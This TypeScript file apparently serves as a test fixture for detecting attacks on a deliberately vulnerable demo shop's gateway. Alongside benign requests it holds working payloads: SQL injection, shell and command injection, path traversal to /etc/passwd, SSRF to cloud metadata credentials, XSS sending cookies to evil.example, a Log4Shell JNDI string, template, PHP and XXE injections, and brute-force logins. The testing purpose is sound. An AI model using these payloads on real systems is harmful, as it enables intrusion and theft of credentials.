/** A request to the shop's gateway. */
export interface ShopRequest {
  name: string;
  method?: 'GET' | 'POST';
  path: string;
  headers?: Record<string, string>;
  /** Sent as JSON. */
  body?: unknown;
}

/** An attack that reaches a sink: what it proves, and where the vulnerable line is. */
export interface Exploit extends ShopRequest {
  /** The rule's `tags.type`. */
  type: string;
  /** What the service prints once the sink has run. */
  ran: string;
  /** In the answer, when the attack has succeeded. */
  loot: string;
  /** The service whose sink it reaches, and its vulnerable line. */
  service: string;
  /** All services that the request crosses. */
  touched: readonly string[];
  file: string;
  line: string;
}

const query = (path: string, parameters: Record<string, string>) =>
  `${path}?${new URLSearchParams(parameters)}`;

export const BENIGN: readonly ShopRequest[] = [
  { name: 'home page', path: '/' },
  { name: 'search', path: query('/search', { q: 'tea' }) },
  { name: 'search for words of SQL', path: query('/search', { q: 'select tea or coffee' }) },
  { name: 'product', path: '/products/2' },
  { name: 'invoice', path: query('/invoices', { file: '2026-0001.txt' }) },
  { name: 'look up a host', path: query('/lookup', { host: 'localhost' }) },
  { name: 'preview', path: query('/preview', { url: '/products/1' }) },
  { name: 'tool', path: query('/tool', { name: 'git' }) },
  {
    name: 'order',
    method: 'POST',
    path: '/orders',
    body: { product: 1, quantity: 2, note: "Please leave it at O'Brien's, number 5; ring twice & wait." },
  },
  {
    name: 'login',
    method: 'POST',
    path: '/login',
    body: { email: 'ada@shop.example', password: 'correct horse battery staple' },
  },
];

/** One attack for each vulnerable route. `internalUrl` is the service that SSRF asks for. */
export const exploits = (internalUrl: string): readonly Exploit[] => [
  {
    name: 'SQL injection',
    type: 'sql_injection',
    path: query('/search', { q: "nothing' UNION SELECT id, email, 0 FROM users --" }),
    ran: 'sink ran: sql',
    loot: 'grace@shop.example',
    service: 'orders',
    touched: ['gateway', 'orders', 'accounts'],
    file: 'src/orders.cjs',
    line: 'await pool.query(sql)',
  },
  {
    name: 'shell injection',
    type: 'command_injection',
    path: query('/lookup', { host: 'localhost; echo owned-$((6*7))' }),
    ran: 'sink ran: shell',
    loot: 'owned-42',
    service: 'accounts',
    touched: ['gateway', 'accounts'],
    file: 'src/accounts.mjs',
    line: 'exec(`getent hosts',
  },
  {
    name: 'command injection',
    type: 'command_injection',
    path: query('/tool', { name: '/bin/bash' }),
    ran: 'sink ran: command',
    loot: 'GNU bash',
    service: 'accounts',
    touched: ['gateway', 'accounts'],
    file: 'src/accounts.mjs',
    line: 'execFile(program,',
  },
  {
    name: 'path traversal',
    type: 'lfi',
    path: query('/invoices', { file: '../../../../../../../../../../etc/passwd' }),
    ran: 'sink ran: file',
    loot: 'root:x:0:0',
    service: 'orders',
    touched: ['gateway', 'orders'],
    file: 'src/orders.cjs',
    line: 'fs.readFile(',
  },
  {
    name: 'server-side request forgery',
    type: 'ssrf',
    path: query('/preview', { url: `${internalUrl}/latest/meta-data/iam` }),
    ran: 'sink ran: fetch',
    loot: 'role-credentials',
    service: 'gateway',
    touched: ['gateway'],
    file: 'src/gateway.mjs',
    line: 'await fetch(new URL(',
  },
];

/** Attacks that are seen at the door; no code of the shop is vulnerable to them. */
export const ATTEMPTS: readonly (ShopRequest & { type: string })[] = [
  {
    name: 'cross-site scripting in a comment',
    type: 'xss',
    method: 'POST',
    path: '/orders',
    body: {
      product: 1,
      quantity: 1,
      note: '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
    },
  },
  {
    name: 'NoSQL injection',
    type: 'nosql_injection',
    method: 'POST',
    path: '/login',
    body: { email: { $ne: null }, password: { $gt: '' } },
  },
  {
    name: 'Log4Shell',
    type: 'java_code_injection',
    path: '/products/1',
    headers: { 'x-api-version': `\${jndi:ldap://evil.example/a}` },
  },
  {
    name: 'template injection',
    type: 'template_injection',
    path: query('/search', { q: '{{constructor.constructor("return process")()}}' }),
  },
  {
    name: 'PHP code injection',
    type: 'php_code_injection',
    path: query('/search', { q: '<?php system($_GET["c"]); ?>' }),
  },
  {
    name: 'external entity',
    type: 'xxe',
    method: 'POST',
    path: '/orders',
    body: {
      product: 1,
      quantity: 1,
      note: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    },
  },
  {
    name: 'a scanner',
    type: 'attack_tool',
    path: '/',
    headers: { 'user-agent': 'sqlmap/1.8.2#stable (https://sqlmap.org)' },
  },
];

/** Wrong passwords for one account. */
export const bruteForce = (attempts: number): readonly ShopRequest[] =>
  Array.from({ length: attempts }, (_, index) => ({
    name: `wrong password ${index + 1}`,
    method: 'POST' as const,
    path: '/login',
    body: { email: 'grace@shop.example', password: `guess-${index}` },
  }));

export interface Answer {
  status: number;
  text: string;
  headers: Headers;
}

/** Sends a request to the gateway, as JSON's friend: errors come as HTML only to those who ask for it. */
export async function send(gatewayUrl: string, request: ShopRequest): Promise<Answer> {
  const response = await fetch(gatewayUrl + request.path, {
    method: request.method ?? 'GET',
    headers: {
      accept: 'application/json, text/plain;q=0.9, */*;q=0.8',
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
      ...(request.body === undefined ? {} : { 'content-type': 'application/json' }),
      ...request.headers,
    },
    body: request.body === undefined ? undefined : JSON.stringify(request.body),
  });
  return { status: response.status, text: await response.text(), headers: response.headers };
}
